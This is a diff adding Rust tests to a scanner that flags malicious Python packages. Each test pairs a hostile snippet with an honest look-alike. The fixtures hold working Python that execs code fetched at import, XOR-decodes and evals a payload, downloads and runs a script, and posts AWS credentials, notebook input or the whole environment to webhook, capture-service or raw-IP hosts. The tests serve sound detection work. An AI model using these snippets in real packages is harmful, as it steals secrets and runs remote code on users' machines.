@@ -1363,3 +1363,158 @@ fn rules_calibrate_stream() {
     }
     println!("{total} artifacts in {:?}: {verdicts:?}", start.elapsed());
 }
+
+// --- Flows judged across behaviours: each pair is a look-alike that must be caught and an
+// --- honest neighbour that must stay clean.
+
+fn verdict_of(files: &[(&str, &str)]) -> (crate::Verdict, Vec<String>) {
+    let s = crate::scan(&sdist(files));
+    (s.verdict, s.reasons)
+}
+
+#[test]
+fn flows_exec_of_fetched_code_at_import_is_malicious() {
+    let (v, why) = verdict_of(&[(
+        "demo-1.0/demo/__init__.py",
+        "exec(__import__('requests').get('http://updates.example.com/v').text)\n",
+    )]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // Reading a file of one's own and executing it is what version helpers do.
+    let (v, why) = verdict_of(&[(
+        "demo-1.0/demo/__init__.py",
+        "import requests\nsrc = open('_version.py').read()\nexec(src)\nrequests.get('https://example.com')\n",
+    )]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
+
+#[test]
+fn flows_one_chr_upstream_is_no_chr_chain_but_a_xor_loop_is() {
+    let honest = "def f(params, vars):\n    for n in params:\n        params[n] = chr(params[n])\n    l = vars['len']\n    l = str(eval(l, {}, params))\n    return l\n";
+    let ev = scan(&[("demo-1.0/demo/parse.py", honest)]);
+    assert!(
+        !has(&ev, "dynamic-exec", Behaviour::DecodeExec),
+        "{}",
+        dump(&ev)
+    );
+    let xor = "def run():\n    data = 'X^IZG@'\n    key = '1395545'\n    out = ''\n    for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    eval(compile(out, '<s>', 'exec'))\nrun()\n";
+    let ev = scan(&[("demo-1.0/demo/test.py", xor)]);
+    assert!(
+        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
+        "{}",
+        dump(&ev)
+    );
+    let joined =
+        "codes = [112, 114, 105, 110, 116]\nexec(''.join(chr(c) for c in codes) + '(1)')\n";
+    let ev = scan(&[("demo-1.0/demo/j.py", joined)]);
+    assert!(
+        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
+        "{}",
+        dump(&ev)
+    );
+}
+
+#[test]
+fn flows_download_then_run_the_same_file() {
+    let dropper = "import subprocess, urllib.request\ndef go(url, filename='s.vbs'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['cscript', '//nologo', filename])\n";
+    let ev = scan(&[("demo-1.0/demo/run.py", dropper)]);
+    assert!(
+        has_at_least(
+            &ev,
+            "drop-executable",
+            Behaviour::DropExecutable,
+            Severity::High
+        ),
+        "{}",
+        dump(&ev)
+    );
+    let write_start = "import os, requests\ndef go(url):\n    p = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'x.py')\n    r = requests.get(url)\n    with open(p, 'wb') as f:\n        f.write(r.content)\n    os.startfile(p)\ngo('https://example.com/x')\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", write_start)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // Downloading an archive and unpacking it runs nothing that was downloaded.
+    let unpack = "import subprocess, urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n    subprocess.run(['tar', 'xzf', path])\n";
+    let ev = scan(&[("demo-1.0/demo/fetch.py", unpack)]);
+    assert!(
+        !has(&ev, "drop-executable", Behaviour::DropExecutable),
+        "{}",
+        dump(&ev)
+    );
+}
+
+#[test]
+fn flows_requests_to_a_capture_service_are_suspicious_and_with_secrets_malicious() {
+    let beacon = "import requests\nrequests.get('https://q8c2k1x9v7m3n5b4z6.oast.fun')\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", beacon)]);
+    assert!(v >= crate::Verdict::Suspicious, "{why:?}");
+    let aws = "import os, configparser, requests\ndef main():\n    hook = 'https://eo64g38fdes1lxm.m.pipedream.net'\n    c = configparser.ConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    requests.post(hook, json={s: dict(c[s]) for s in c.sections()})\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/q.py", aws)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // An honest client: reads its own credentials file and calls its own API.
+    let client = "import os, configparser, requests\ndef main():\n    c = configparser.ConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    requests.post('https://api.example.com/v1', json={})\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/q.py", client)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
+
+#[test]
+fn flows_notebook_input_sent_to_a_raw_ip_is_malicious() {
+    let thief = "import sys, requests\ndef init():\n    if 'ipykernel' in sys.modules:\n        o = get_ipython().history_manager.input_hist_raw[-1]\n        requests.post('http://1.2.3.4/client', json={'l': o})\ninit()\n";
+    let (v, _) = verdict_of(&[("demo-1.0/demo/markets.py", thief)]);
+    let ev = scan(&[("demo-1.0/demo/markets.py", thief)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{}", dump(&ev));
+    let magic = "def last(ip):\n    return ip.history_manager.input_hist_raw[-1]\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/magic.py", magic)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
+
+#[test]
+fn flows_url_hidden_by_base64_with_host_facts_sent_is_malicious() {
+    let url = encode_b64(b"https://6fdfcce6.example.net");
+    let (a, b) = url.split_at(10);
+    let canary = format!(
+        "import base64, socket, urllib.request\nu1 = '{a}'\nu2 = '{b}'\nhostname = socket.gethostname()\nurl = base64.b64decode(f'{{u1}}{{u2}}').decode('utf-8') + f'?h={{hostname}}'\nurllib.request.urlopen(url)\n"
+    );
+    let ev = scan(&[("demo-1.0/demo/__init__.py", &canary)]);
+    assert!(
+        has_at_least(
+            &ev,
+            "exfil-endpoint",
+            Behaviour::ExfilEndpoint,
+            Severity::Medium
+        ),
+        "{}",
+        dump(&ev)
+    );
+    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", &canary)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // A plain URL with the host name in a User-Agent is an update check, not hidden.
+    let honest = "import socket, urllib.request\nurllib.request.urlopen(urllib.request.Request('https://example.com/latest', headers={'User-Agent': socket.gethostname()}))\n";
+    let ev = scan(&[("demo-1.0/demo/__init__.py", honest)]);
+    assert!(
+        !has(&ev, "exfil-endpoint", Behaviour::ExfilEndpoint),
+        "{}",
+        dump(&ev)
+    );
+}
+
+#[test]
+fn flows_environment_and_identity_sent_is_malicious() {
+    let dump_env = "import json, os, socket, urllib.request\ndef post(url):\n    data = {'hostname': socket.gethostname(), 'username': os.getlogin(), 'env': dict(os.environ)}\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    urllib.request.urlopen(req)\n";
+    let (v, why) = verdict_of(&[("demo-1.0/mlc.py", dump_env)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // Copying the environment for a child process is what launchers do.
+    let launcher = "import os, subprocess, socket\nenv = dict(os.environ)\nenv['X'] = socket.gethostname()\nsubprocess.run(['tool'], env=env)\n";
+    let (v, why) = verdict_of(&[("demo-1.0/demo/launch.py", launcher)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
+
+#[test]
+fn flows_a_hidden_console_window_alone_is_clean() {
+    let gs = "import subprocess, sys\ndef run(cmd):\n    si = None\n    if sys.platform.startswith('win'):\n        si = subprocess.STARTUPINFO()\n        si.dwFlags |= subprocess.STARTF_USESHOWWINDOW\n    subprocess.check_call(cmd, startupinfo=si)\n";
+    let ev = scan(&[("demo-1.0/demo/gs.py", gs)]);
+    assert!(
+        has(&ev, "process-spawn", Behaviour::HiddenProcess),
+        "{}",
+        dump(&ev)
+    );
+    let (v, why) = verdict_of(&[("demo-1.0/demo/gs.py", gs)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+}
